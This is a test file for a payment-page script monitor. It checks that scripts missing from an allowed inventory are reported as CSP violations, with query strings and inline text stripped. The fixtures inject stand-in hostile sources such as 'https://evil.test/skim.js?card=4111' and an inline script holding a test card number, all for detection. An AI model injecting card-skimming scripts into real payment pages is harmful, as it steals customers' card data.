import { createHash } from 'node:crypto';
import { afterEach, beforeEach, expect, onTestFinished, test, vi } from 'vitest';
import type { PaymentScripts } from '#contract/types.ts';
import { createPaymentScripts } from '#src/ports/payment/payment-script-watch.ts';
import { fakeApi } from '#tests/support/fake-api.ts';
import { createTestApi } from '../run-port.ts';

const INLINE = 'void 0;';
const HASH = `sha256-${createHash('sha256').update(INLINE).digest('base64')}`;
const entry = { name: '', owner: '', reason: '', integrity: '' };
const INVENTORY: PaymentScripts = {
  scripts: [
    { ...entry, sources: ['/assets/index-1a2b3c4.js', '/assets/purchase-layout-5d6e7f8.js'] },
    { ...entry, sources: [HASH] },
    { ...entry, sources: ['https://checkout.test/v3.js'] },
    { ...entry, sources: ['/sandbox/google/gsi/client'] },
  ],
};
const OWN_FILE = '/assets/purchase-layout-5d6e7f8.js';
const HOME = location.origin;

type Entry = Pick<PerformanceResourceTiming, 'name' | 'initiatorType'>;
/** What the page's resources were loaded for; jsdom measures none. */
let load: (...entries: Entry[]) => void;
/** Null while nothing is observed. */
let observed: object | null;

beforeEach(() => {
  vi.stubGlobal(
    'PerformanceObserver',
    class {
      constructor(onEntries: (list: { getEntries: () => Entry[] }) => void) {
        load = (...entries) => onEntries({ getEntries: () => entries });
      }
      observe(options: object) {
        observed = options;
      }
      disconnect() {
        observed = null;
      }
    },
  );
});
afterEach(() => {
  for (const element of document.querySelectorAll('script, section')) element.remove();
});

function watch({ scripts = createPaymentScripts(OWN_FILE), inventory = INVENTORY } = {}) {
  const api = fakeApi();
  api.reply('paymentScripts', { body: inventory });
  api.reply('reportCspViolation', { body: undefined });
  const stop = scripts.watch(createTestApi());
  onTestFinished(stop);
  const getReports = () => api.callsTo('reportCspViolation').map(({ body }) => body);
  return { api, scripts, stop, getReports };
}

/** Its address is not loaded by jsdom. */
function addScript(properties: Partial<HTMLScriptElement>, parent: Element = document.head) {
  const element = Object.assign(document.createElement('script'), properties);
  parent.append(element);
}

const settle = () => new Promise((resolve) => setTimeout(resolve, 20));

const reportOf = (source: string) => ({
  'csp-report': {
    'document-uri': `${HOME}/payment/card`,
    'violated-directive': 'payment-scripts',
    'blocked-uri': source,
  },
});

test('[HARDEN-09] what is in the inventory is not reported', async () => {
  addScript({ text: INLINE });
  addScript({ type: 'application/json', text: '{"a": 1}' });
  addScript({ src: 'https://checkout.test/v3.js' });
  addScript({ src: 'chrome-extension://abcd/inject.js' });
  const { getReports, api } = watch();
  load(
    { name: `${HOME}/assets/index-1a2b3c4.js`, initiatorType: 'other' },
    { name: `${HOME}/sandbox/google/gsi/client?v=2`, initiatorType: 'script' },
    { name: `${HOME}/media/pads.webp`, initiatorType: 'img' },
    { name: `${HOME}/api/config/`, initiatorType: 'fetch' },
    { name: 'https://fonts.test/a.css', initiatorType: 'link' },
  );
  await settle();
  expect(api.callsTo('paymentScripts')).toHaveLength(1);
  expect(getReports()).toEqual([]);
});

test('[HARDEN-09] a script that was there before, one that comes, and a module are reported, without their queries', async () => {
  history.replaceState(null, '', '/payment/card?order=7K3M9QXW2VAB');
  addScript({ src: '/media/before.js' });
  const { getReports } = watch();
  addScript({ src: 'https://evil.test/skim.js?card=4111' });
  const section = document.createElement('section');
  addScript({ src: '/media/inside.js' }, section);
  document.body.append(section);
  await settle();
  load({ name: `${HOME}/media/module.mjs?x=1`, initiatorType: 'other' });
  await vi.waitFor(() =>
    expect(getReports()).toEqual(
      [
        `${HOME}/media/before.js`,
        'https://evil.test/skim.js',
        `${HOME}/media/inside.js`,
        `${HOME}/media/module.mjs`,
      ].map(reportOf),
    ),
  );
});

test('[HARDEN-09] a file beside those of the build is reported, although it is named like one', async () => {
  history.replaceState(null, '', '/payment/card');
  const { getReports } = watch();
  load({ name: `${HOME}/assets/index-9z9z9z9.js`, initiatorType: 'script' });
  await vi.waitFor(() => expect(getReports()).toEqual([reportOf(`${HOME}/assets/index-9z9z9z9.js`)]));
});

test('[HARDEN-09] in a page that was open before an update, files named like those of a build are not', async () => {
  history.replaceState(null, '', '/payment/card');
  const { getReports } = watch({ scripts: createPaymentScripts('/assets/purchase-layout-0000000.js') });
  load(
    { name: `${HOME}/assets/index-9z9z9z9.js`, initiatorType: 'script' },
    { name: 'https://evil.test/assets/index-9z9z9z9.js', initiatorType: 'script' },
    { name: `${HOME}/assets/parts/index.js`, initiatorType: 'script' },
  );
  await vi.waitFor(() =>
    expect(getReports()).toEqual([
      reportOf('https://evil.test/assets/index-9z9z9z9.js'),
      reportOf(`${HOME}/assets/parts/index.js`),
    ]),
  );
});

test('[HARDEN-09] an inline script that the policy has no hash of is reported as inline, without its text', async () => {
  history.replaceState(null, '', '/payment/card');
  const { getReports } = watch();
  addScript({ text: "void '4111 1111 1111 1111'" });
  addScript({ type: 'module', text: 'void 1' });
  await vi.waitFor(() => expect(getReports()).toEqual([reportOf('inline')]));
});

test('[HARDEN-09] each is reported once, and five of one page load', async () => {
  const { getReports, scripts, stop } = watch();
  for (const _ of [1, 2]) load({ name: 'https://evil.test/0.js', initiatorType: 'script' });
  await vi.waitFor(() => expect(getReports()).toHaveLength(1));
  stop();
  const next = watch({ scripts });
  for (const number of [0, 1, 2, 3, 4, 5, 6])
    load({ name: `https://evil.test/${number}.js`, initiatorType: 'script' });
  await settle();
  expect(next.getReports()).toHaveLength(4);
});

test('[HARDEN-09] a report that was lost is sent again by the next screen', async () => {
  const { api, getReports, scripts, stop } = watch();
  api.reply('reportCspViolation', 'offline');
  load({ name: 'https://evil.test/0.js', initiatorType: 'script' });
  await vi.waitFor(() => expect(getReports()).toHaveLength(1));
  await settle();
  stop();
  const next = watch({ scripts });
  load({ name: 'https://evil.test/0.js', initiatorType: 'script' });
  await vi.waitFor(() => expect(next.getReports()).toHaveLength(1));
});

test('[HARDEN-09] without the inventory nothing is reported', async () => {
  const api = fakeApi();
  api.reply('paymentScripts', 'offline');
  onTestFinished(createPaymentScripts(OWN_FILE).watch(createTestApi()));
  load({ name: 'https://evil.test/0.js', initiatorType: 'script' });
  await settle();
  expect(api.callsTo('reportCspViolation')).toEqual([]);
});

test('[HARDEN-09] after the payment screens nothing is watched', async () => {
  const { getReports, stop } = watch();
  expect(observed).toEqual({ type: 'resource', buffered: true });
  stop();
  expect(observed).toBeNull();
  addScript({ src: 'https://evil.test/skim.js' });
  await settle();
  expect(getReports()).toEqual([]);
});
